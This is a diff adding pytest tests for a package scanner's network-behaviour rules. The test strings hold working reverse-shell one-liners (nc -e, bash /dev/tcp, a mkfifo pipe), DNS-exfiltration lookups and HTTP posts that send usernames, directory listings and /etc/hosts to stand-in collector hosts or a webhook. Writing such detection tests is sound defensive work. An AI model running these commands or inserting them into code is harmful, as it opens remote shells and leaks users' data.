@@ -1,0 +1,131 @@
+"""Network behaviours: reverse shells, literal-IP connections, DNS exfiltration, host data sent over HTTP. Each
+rule fires on the pattern however it is written, and an everyday look-alike stays below medium."""
+
+from pypi_platform_tests.lib.scanner.python_scan import below_medium, found, rules
+
+
+# --- backdoor.reverse-shell ----------------------------------------------------------------------------------
+def test_backdoor_reverse_shell_socket_duplicated_onto_the_standard_streams_then_a_shell():
+    source = """
+    import os, pty, socket
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(('203.0.113.10', 4444))
+    for fd in (0, 1, 2):
+        pass
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+    pty.spawn('/bin/sh')
+    """
+    assert ("backdoor.reverse-shell", 10) in found(source)
+
+
+def test_backdoor_reverse_shell_subprocess_with_the_socket_as_its_streams():
+    source = """
+    import socket, subprocess
+    s = socket.create_connection(('shell.example', 443))
+    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
+    """
+    assert ("backdoor.reverse-shell", 4) in found(source)
+
+
+def test_backdoor_reverse_shell_shell_commands_that_connect():
+    source = """
+    import os, subprocess
+    os.system('nc -e /bin/sh 198.51.100.20 9001')
+    subprocess.Popen('bash -i >& /dev/tcp/198.51.100.20/9001 0>&1', shell=True)
+    os.system('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.20 9001 > /tmp/f')
+    subprocess.run(['bash', '-c', 'sh -i 2>&1 | nc shell.example 4444'])
+    os.system('n' + 'c -e /bin/bash shell.example 4444')
+    """
+    lines = [line for rule, line in found(source) if rule == "backdoor.reverse-shell"]
+    assert lines == [3, 4, 5, 6, 7]
+
+
+def test_a_shell_and_a_socket_without_duplicated_streams_is_no_reverse_shell():
+    source = """
+    import os, socket, subprocess
+    s = socket.create_connection(('localhost', 8080))
+    subprocess.run(['/bin/sh', '-c', 'make'])
+    os.dup2(log.fileno(), 2)
+    os.system('nc -z localhost 8080')
+    """
+    assert "backdoor.reverse-shell" not in rules(source)
+    assert below_medium("import socket\ns = socket.create_connection(('localhost', 8080))\n")
+
+
+# --- network.literal-ip-connection ---------------------------------------------------------------------------
+def test_network_literal_ip_connection_in_tuples_urls_and_folded_strings():
+    source = """
+    import socket, requests, urllib.request
+    socket.create_connection(('203.0.113.5', 80))
+    requests.get('http://198.51.100.7:8080/x')
+    urllib.request.urlopen('http://' + '192.0.2.1' + '/beacon')
+    requests.post('http://[2001:db8::5]/c', data=b'')
+    sock.connect(('198.51.100.9', 53))
+    """
+    lines = [line for rule, line in found(source) if rule == "network.literal-ip-connection"]
+    assert lines == [3, 4, 5, 6, 7]
+
+
+def test_loopback_private_and_named_hosts_are_no_literal_ip_connection():
+    source = """
+    import socket, requests
+    socket.create_connection(('127.0.0.1', 80))
+    requests.get('http://10.0.0.5/health')
+    requests.get('http://[::1]:8000/')
+    requests.get('https://api.example.org/v1/items')
+    sock.connect(('localhost', 5432))
+    """
+    assert "network.literal-ip-connection" not in rules(source)
+    assert below_medium(source)
+
+
+# --- exfiltration.dns ----------------------------------------------------------------------------------------
+def test_exfiltration_dns_host_data_formatted_into_a_looked_up_name():
+    source = """
+    import base64, getpass, os, socket
+    import dns.resolver
+    socket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.collector.example')
+    socket.getaddrinfo(os.environ['USER'] + '.collector.example', 80)
+    label = base64.b32encode(secret).decode()
+    dns.resolver.resolve(label + '.collector.example', 'TXT')
+    """
+    lines = [line for rule, line in found(source) if rule == "exfiltration.dns"]
+    assert lines == [4, 5, 7]
+
+
+def test_resolving_the_own_host_name_or_a_fixed_name_is_no_dns_exfiltration():
+    source = """
+    import socket
+    socket.gethostbyname(socket.gethostname())
+    socket.gethostbyname('api.example.org')
+    socket.getaddrinfo(f'{service}.internal.example', 443)
+    """
+    assert below_medium(source)
+
+
+# --- exfiltration.host-data ----------------------------------------------------------------------------------
+def test_exfiltration_host_data_sent_in_a_request_body():
+    source = """
+    import getpass, os, platform, requests, socket, urllib.request
+    info = {'user': getpass.getuser(), 'host': socket.gethostname(), 'cwd': os.getcwd()}
+    requests.post('https://collector.example/in', json=info)
+    requests.post('https://collector.example/in', data={'files': os.listdir(os.path.expanduser('~'))})
+    urllib.request.urlopen('https://collector.example/in', data=platform.node().encode())
+    requests.post('https://discord.com/api/webhooks/1/abc', files={'f': open('/etc/hosts').read()})
+    """
+    lines = [line for rule, line in found(source) if rule == "exfiltration.host-data"]
+    assert lines == [4, 5, 6, 7]
+
+
+def test_an_api_client_sending_its_own_payload_and_platform_headers_stays_quiet():
+    source = """
+    import os, platform, requests
+    headers = {'User-Agent': f'client/1.0 ({platform.system()})'}
+    requests.post('https://api.example.org/v1', json={'q': query}, headers=headers)
+    requests.post(url, data={'token': os.environ['API_TOKEN']})
+    requests.put(upload_url, data=open(path, 'rb').read())
+    """
+    assert "exfiltration.host-data" not in rules(source)
+    assert below_medium(source)
